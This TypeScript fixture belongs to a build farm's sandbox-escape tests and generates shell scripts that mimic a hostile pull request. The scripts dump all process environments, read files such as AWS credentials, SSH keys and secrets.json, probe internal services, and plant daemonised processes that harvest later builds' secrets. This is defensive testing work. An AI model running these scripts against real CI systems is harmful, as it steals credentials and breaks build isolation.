/**
 * The attacks of test/hostile/sandbox-escape.test.ts, as the shell scripts a
 * hostile pull request would commit (issue 10): read every environment and
 * command line in sight, walk up the file system for the farm's secrets,
 * call the farm's own services on loopback, and leave processes behind in
 * every way a shell can. Each script prints what it found, so a test that
 * greps the stage's log for the canaries sees any leak.
 *
 * The scripts take their targets from the stage's `env` (the attacker knows
 * the farm's layout: it is open source): DATA (the data directory), HOSTHOME
 * (the farm user's home), S3 (s3rver's endpoint), FARM (the dashboard),
 * OTHER_KEY (another build's object), LOOT (a host path the planted process
 * writes what it finds to).
 */

/** Leaves of the self-daemonising fork tree (2^9). */
export const TREE_LEAVES = 512;

/**
 * Hands the farm a build of the farm user's home through `buildfarm run`'s socket (which `buildfarm
 * serve` keeps under DATA/run-handoff/): prints `handoff connected` or `handoff refused <code>`.
 */
function handOffLine(): string {
  const run = `{"type":"run","buildId":"run-stolen","repository":{"repository":"local/home","path":process.env.HOSTHOME}}`;
  const script = `const s=require("net").connect(process.argv[1]);s.on("connect",()=>{console.log("handoff connected");s.end(JSON.stringify(${run})+"\\n")});s.on("data",d=>console.log("handoff answered",String(d).slice(0,200)));s.on("error",e=>console.log("handoff refused",e.code))`;
  return `node -e '${script}' "$DATA/run-handoff/farm.sock"`;
}

/** A fetch from inside the stage that prints `got <body>` or `refused <code>`: node is on every stage's PATH. */
function fetchLine(label: string, url: string): string {
  const script = `fetch(process.argv[1],{signal:AbortSignal.timeout(3000)}).then(r=>r.text()).then(t=>console.log("${label} got",t.slice(0,400)),e=>console.log("${label} refused",e.cause?.code||e.name))`;
  return `node -e '${script}' "${url}"`;
}

export const READS_SCRIPT = `#!/bin/sh
echo "marker=$BUILDFARM_STAGE_MARKER"
echo "visible-pids=$(ls /proc | grep -c '^[0-9]')"
echo "--- own environment"; env
echo "--- the environment of every visible process"
for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < "$f" 2>/dev/null; done
echo "--- the parent's environment"; tr '\\0' '\\n' < /proc/$PPID/environ 2>&1
echo "--- the command line of every visible process"
for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < "$f" 2>/dev/null; echo; done
echo "--- walking up from the workspace"
d=$PWD
while [ "$d" != / ]; do
  d=$(dirname "$d"); ls -la "$d" 2>&1 | head -20
  for n in secrets.json .buildfarm/secrets.json webhook-secret .buildfarm/webhook-secret; do cat "$d/$n" 2>/dev/null; done
done
echo "--- the farm's paths, known in advance"
cat "$DATA/secrets.json" "$DATA/webhook-secret" "$HOSTHOME/.aws/credentials" "$HOSTHOME/.ssh/id_ed25519" 2>&1
ls "$DATA" "$DATA/s3" "$DATA/builds" 2>&1 | head -20
find / -maxdepth 6 \\( -path /proc -o -path /sys -o -path /usr \\) -prune -o \\( -name secrets.json -o -name credentials \\) -print 2>/dev/null | head -20 | while read -r f; do echo "found $f"; cat "$f"; done
echo "--- the farm's services"
${fetchLine('s3rver', '$S3/buildfarm-local/$OTHER_KEY')}
${fetchLine('dashboard', '$FARM/api/builds')}
${fetchLine('host-loopback', 'http://10.0.2.2:${S3##*:}/buildfarm-local/$OTHER_KEY')}
${handOffLine()}
echo READS-DONE
`;

/**
 * The daemonising attacks. Each suite gives its own `base` (unusual numbers: other projects on the machine
 * use `sleep 300` too), so suites running at once never see (or kill)
 * each other's processes: the sleeps take arguments base..base+6, the planted process is named planted-<base+7>.
 */
export interface Daemons {
  script: string;
  /** `sleep` arguments of the patterns; the tree's leaves sleep `markers[6]`. */
  markers: string[];
  /** The planted process's $0, found by its command line. */
  planted: string;
}

export function daemons(base: number): Daemons {
  const m = Array.from({ length: 7 }, (_, i) => String(base + i));
  const planted = `planted-${base + 7}`;
  // A pattern that matches the leaves' argument but not grep's own (`40[6]` is not `406`).
  const leafPattern = `${m[6]!.slice(0, -1)}[${m[6]!.slice(-1)}]`;
  const script = `#!/bin/sh
echo "marker=$BUILDFARM_STAGE_MARKER"
sleep ${m[0]} &
setsid sleep ${m[1]} &
(setsid sh -c 'sleep ${m[2]}' &)
nohup sleep ${m[3]} >/dev/null 2>&1 &
( (sleep ${m[4]} &) & )
env -i setsid sleep ${m[5]} &
tree() {
  if [ "$1" -eq 0 ]; then setsid sleep ${m[6]} & return; fi
  (tree $(($1 - 1)) &)
  (tree $(($1 - 1)) &)
}
tree 9
# Planted: reads the environment of whatever runs later (another build's stage) and keeps it.
setsid sh -c 'i=0; while [ $i -lt 150 ]; do cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n" | grep -a canary >> "$LOOT" 2>/dev/null; i=$((i+1)); sleep 0.2; done' ${planted} &
# Wait until the tree stands, so the leaves are there to escape.
i=0
while [ $i -lt 120 ]; do
  leaves=$(cat /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -c -x '${leafPattern}')
  [ "$leaves" -ge ${TREE_LEAVES} ] && break
  i=$((i+1)); sleep 0.5
done
echo "leaves=$leaves"
echo DAEMONS-STARTED
`;
  return { script, markers: m, planted };
}

/** The attacking pull request's pipeline file: the reads on both runners, the daemons on Lambda. */
export function attackPipeline(env: Record<string, string>): string {
  const envLines = Object.entries(env).map(([name, value]) => `      ${name}: ${JSON.stringify(value)}`).join('\n');
  return `version: 1
stages:
  reads-lambda:
    runner: lambda
    env:
${envLines}
    commands:
      - sh reads.sh
  reads-fargate:
    runner: fargate
    env:
${envLines}
    commands:
      - sh reads.sh
  daemons:
    runner: lambda
    env:
${envLines}
    commands:
      - sh daemons.sh
      - echo after-daemons
`;
}

/** A later, trusted build: a secret from secrets.json and a canary in its environment, for the planted process to find. */
export function laterPipeline(canary: string): string {
  return `version: 1
stages:
  later:
    runner: lambda
    env:
      LATER_CANARY: ${JSON.stringify(canary)}
    secrets:
      TOKEN: ssm:/ci/token
    commands:
      - sleep 2
      - echo later-done
`;
}
